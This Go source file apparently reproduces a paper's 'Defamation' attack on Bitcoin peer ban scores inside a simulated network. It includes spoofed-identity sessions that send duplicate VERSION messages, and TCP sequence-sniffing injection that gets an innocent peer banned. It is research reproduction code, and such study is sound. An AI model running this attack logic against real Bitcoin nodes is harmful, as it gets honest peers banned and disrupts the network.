package attack

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"banscore/internal/simnet"
	"banscore/internal/wire"
)

// DefamationResult summarizes a Defamation run against one innocent
// identifier.
type DefamationResult struct {
	// Innocent identifier that was defamed.
	Innocent string
	// MessagesSent (or injected) before the ban took effect.
	MessagesSent uint64
	// Elapsed from first misbehaving message until the ban.
	Elapsed time.Duration
}

// PreConnectionDefame executes the paper's pre-connection Defamation: the
// attacker spoofs the innocent identifier BEFORE the innocent connects,
// opens a session as them, and sends misbehaving VERSION messages until the
// target bans the identifier (detected by connection loss). delay is the
// inter-message delay (Fig. 8: 0 vs 1 ms).
func PreConnectionDefame(dial Dialer, innocent, target string, magic wire.BitcoinNet, delay time.Duration) (DefamationResult, error) {
	res := DefamationResult{Innocent: innocent}
	conn, err := dial(innocent, target)
	if err != nil {
		return res, fmt.Errorf("spoofed dial as %s: %w", innocent, err)
	}
	s := NewSession(conn, magic)
	defer s.Close()
	if err := s.Handshake(5 * time.Second); err != nil {
		return res, err
	}

	start := clk.Now()
	for {
		if err := s.Send(s.Version()); err != nil {
			break // the identifier is banned and the connection dropped
		}
		res.MessagesSent++
		if delay > 0 {
			clk.Sleep(delay)
		}
	}
	res.Elapsed = clk.Since(start)
	return res, nil
}

// PostConnectionDefamer implements Algorithm 1: defame an innocent peer
// that already holds a live connection to the target, by eavesdropping on
// the stream state and injecting spoofed misbehaving messages into it.
type PostConnectionDefamer struct {
	fabric  *simnet.Network
	sniffer *simnet.Sniffer
	magic   wire.BitcoinNet

	innocent string
	target   string
}

// NewPostConnectionDefamer arms the attack. The sniffer must have observed
// the innocent→target stream from its beginning (same-network promiscuous
// capture), mirroring the paper's requirement of knowing the 4-tuple and
// real-time TCP state.
func NewPostConnectionDefamer(fabric *simnet.Network, innocent, target string, magic wire.BitcoinNet) *PostConnectionDefamer {
	sniffer := fabric.NewSniffer(func(from, to simnet.Addr) bool {
		return string(from) == innocent && string(to) == target
	})
	return &PostConnectionDefamer{
		fabric:   fabric,
		sniffer:  sniffer,
		magic:    magic,
		innocent: innocent,
		target:   target,
	}
}

// Close detaches the sniffer.
func (d *PostConnectionDefamer) Close() { d.sniffer.Close() }

// frameVersion builds the spoofed misbehaving message: a duplicate VERSION
// framed with correct checksum, which scores +1 per delivery at the target.
func (d *PostConnectionDefamer) frameVersion(n uint64) []byte {
	me := wire.NewNetAddressIPPort(net.IPv4zero, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4zero, 0, 0)
	v := wire.NewMsgVersion(me, you, n, 0)
	v.Timestamp = time.Unix(1700000000, 0)
	var buf bytes.Buffer
	_, _ = wire.WriteMessage(&buf, v, wire.ProtocolVersion, d.magic)
	return buf.Bytes()
}

// Run injects count spoofed messages per Algorithm 1:
//
//	while eavesdropping: learn seq → craft → inject → target scores innocent.
//
// It returns once the target has dropped the innocent's connection (the
// injection point disappears) or count messages are in.
func (d *PostConnectionDefamer) Run(count int, delay time.Duration) (DefamationResult, error) {
	res := DefamationResult{Innocent: d.innocent}
	start := clk.Now()
	for i := 0; i < count; i++ {
		frame := d.frameVersion(uint64(i))
		// Step 3 of Algorithm 1: learn the current stream state.
		seq := d.sniffer.NextSeq(d.innocent, d.target)
		// Steps 4-5: craft with the expected seq and inject.
		err := d.fabric.Inject(d.innocent, d.target, seq, frame)
		if err != nil {
			if errors.Is(err, simnet.ErrSeqMismatch) {
				// Raced with legitimate traffic: re-learn and retry.
				i--
				continue
			}
			if errors.Is(err, simnet.ErrConnNotFound) || errors.Is(err, io.ErrClosedPipe) {
				// The target banned the innocent peer and tore the
				// connection down — gone from the fabric, or closed and
				// about to be: the attack has succeeded.
				res.Elapsed = clk.Since(start)
				return res, nil
			}
			res.Elapsed = clk.Since(start)
			return res, err
		}
		res.MessagesSent++
		if delay > 0 {
			clk.Sleep(delay)
		}
	}
	res.Elapsed = clk.Since(start)
	return res, nil
}
